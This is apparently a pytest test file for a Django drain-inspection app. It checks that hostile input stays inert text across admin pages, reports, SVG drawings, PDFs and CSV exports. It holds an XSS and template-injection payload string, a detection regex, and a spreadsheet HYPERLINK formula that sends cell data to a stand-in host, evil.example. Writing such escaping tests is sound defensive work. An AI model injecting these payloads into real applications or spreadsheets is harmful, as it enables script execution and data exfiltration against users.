"""Text that would be code elsewhere stays text: at the desk, in reports, drawings and spreadsheets."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ElementTree
from typing import Any

import pytest
from django.test import Client

from inspections.models import Customer, Job, Lateral, Run, Subscription
from tests import builders, people
from tests.admin.conftest import desk, everything, person
from tests.admin.test_pages_open import address, pages
from tests.api.answers import read
from tests.client import Api

HOSTILE = """"'><script>alert(1)</script><img src=x onerror=alert(2)>{{7*7}}${7*7}</svg>\u202e\u2028]]>&lt;"""
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"pay")'
# What would run if the text were taken for markup; escaped, none of these stands in a page.
LIVE = re.compile(r"<script>alert|<img src=x|onerror=alert\(2\)>(?!&)|</svg>\u202e")


def hostile(text: str) -> dict[str, Any]:
    """Return a job and a run that say the text wherever a text may stand."""
    job = builders.job(
        external_ref=text[:200],
        instructions=text,
        customer={"external_ref": text[:200], "name": text, "kind": "household", "email": text, "phone": text[:50]},
        property={
            "external_ref": text[:200],
            "rule_set": None,
            "address": {name: text[:20] if name == "postal_code" else text[:100] for name in _ADDRESS},
        },
    )
    run = builders.run(
        "job",
        external_ref=text[:200],
        inspector=text,
        start_access={"kind": "clean_out", "label": text[:100], "how_to_find": text, "size": 4},
        clips=[{"uri": "file:///clips/a.mp4", "duration_s": 61.5}],
        features=[{"kind": "joint", "at": 3, "label": text[:100]}, {"kind": "main", "at": 60, "label": text[:100]}],
        defects=[
            {"ref": text[:50], "kind": "fracture", "at": 27.5, "pattern": "multiple", "note": text},
            {"ref": "b", "kind": "sag", "at": 44, "to": 49, "percent": 40, "note": text},
        ],
    )
    return {"job": job, "run": run}


_ADDRESS = ("line1", "line2", "locality", "region", "postal_code", "country")


def sent(api: Api, text: str) -> Lateral:
    """Send all of it, and have it graded and scoped."""
    documents = hostile(text)
    job = read(api.post("/jobs", documents["job"]), 201)
    run = read(api.post("/runs", {**documents["run"], "job": job["id"]}), 201)
    read(api.post(f"/runs/{run['id']}/submit"), 202)
    read(api.post(f"/runs/{run['id']}/amendments", {"reason": text, "changes": {"inspector": text + "."}}), 201)
    read(api.post(f"/runs/{run['id']}/return", {"reasons": [text]}))
    read(api.put(f"/laterals/{run['lateral']}/site", builders.site(), **{"If-Match": "*"}))
    read(api.post(f"/laterals/{run['lateral']}/repair-scopes", {"policy": {"fix_from_grade": 3}}), 202)
    return Lateral.objects.get(pk=run["lateral"])


@pytest.fixture
def lateral(api: Api, works: None) -> Lateral:
    return sent(api, HOSTILE)


@pytest.fixture
def administrator(firm: people.Firm) -> Client:
    return desk(person(firm, "administrator", first_name=HOSTILE[:150], last_name=HOSTILE[:150]))


def test_no_page_of_the_desk_runs_it(administrator: Client, lateral: Lateral, firm: people.Firm, api: Api) -> None:
    Subscription.objects.create(
        organisation=firm.organisation,
        url="https://hooks.example.com/",
        description=HOSTILE,
        salt="",
        secret_sha256="",
    )
    seen = 0
    for model in pages():
        listed = administrator.get(address(model, "changelist"))
        bodies = [listed.content.decode()]
        rows = list(listed.context["cl"].result_list)[:3] if listed.status_code == 200 else []
        for row in rows:
            bodies += [
                administrator.get(address(model, page, row.pk)).content.decode() for page in ("change", "history")
            ]
        for body in bodies:
            assert not LIVE.search(body), model
            seen += "alert(1)" in body
    for path in ("/admin/desk/", f"/admin/laterals/{lateral.pk}/report", f"/admin/laterals/{lateral.pk}/drawing.svg"):
        assert not LIVE.search(administrator.get(path).content.decode()), path
    assert seen > 10  # it is there, as text


def test_search_and_wrong_input_do_not_run_it_either(administrator: Client, lateral: Lateral) -> None:
    for model in (Customer, Job, Run):
        body = administrator.get(address(model, "changelist"), {"q": HOSTILE}).content.decode()
        assert not LIVE.search(body), model
    answer = administrator.post("/admin/inspections/customer/add/", {"name": "", "kind": HOSTILE, "email": HOSTILE})
    assert answer.status_code == 200
    assert not LIVE.search(answer.content.decode())
    assert not LIVE.search(Client().post("/admin/login/", {"username": HOSTILE, "password": "x"}).content.decode())


def test_the_report_shows_it_as_text(api: Api, lateral: Lateral) -> None:
    body = api.get(f"/laterals/{lateral.pk}/report", Accept="text/html").content.decode()
    assert not LIVE.search(body)
    assert "&lt;" in body


def test_the_drawing_stays_well_formed_and_draws_nothing_of_it(api: Api, lateral: Lateral) -> None:
    body = api.get(f"/laterals/{lateral.pk}/report", Accept="image/svg+xml").content.decode()
    root = ElementTree.fromstring(body)
    names = {element.tag.rpartition("}")[2] for element in root.iter()}
    assert not {"script", "img", "foreignObject", "a", "image", "use"} & names
    assert not [name for element in root.iter() for name in element.attrib if name.lower().startswith("on")]


def test_the_paper_report_is_made_of_it_all_the_same(api: Api, lateral: Lateral) -> None:
    answer = api.get(f"/laterals/{lateral.pk}/report", Accept="application/pdf")
    assert answer.content.startswith(b"%PDF")
    assert b"/JavaScript" not in answer.content
    assert b"/Launch" not in answer.content


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("name", ["jobs", "runs", "defects", "laterals", "repair-scopes"])
def test_a_spreadsheet_executes_nothing_of_an_export(transactional_db: None, name: str) -> None:
    firm = people.firm("Cedar Gap Drains")
    api = Api(firm.token())
    for number, start in enumerate(("=", "+", "-", "@", "\t=", "\r=")):
        text = f"{start}{FORMULA[1:]}"
        documents = hostile(text)
        job = read(api.post("/jobs", {**documents["job"], "external_ref": f"{start}{number}"}), 201)
        read(api.post("/runs", {**documents["run"], "job": job["id"]}), 201)
    answer = api.get(f"/exports/{name}.csv")
    body = b"".join(answer.streaming_content).decode()
    answer.close()
    for row in csv.reader(io.StringIO(body, newline="")):
        for cell in row:
            is_number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
            assert is_number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_a_problem_repeats_hostile_input_as_json_only(api: Api) -> None:
    answer = api.http.get("/api/v1/jobs", {HOSTILE: "1"})
    assert answer.headers["Content-Type"] == "application/problem+json"
    assert answer.status_code == 400


@pytest.mark.usefixtures("works")
def test_everything_in_the_fixture_town_passes_too(api: Api, administrator: Client) -> None:
    row = everything(api)
    assert administrator.get(f"/admin/laterals/{row.pk}/report").status_code == 200
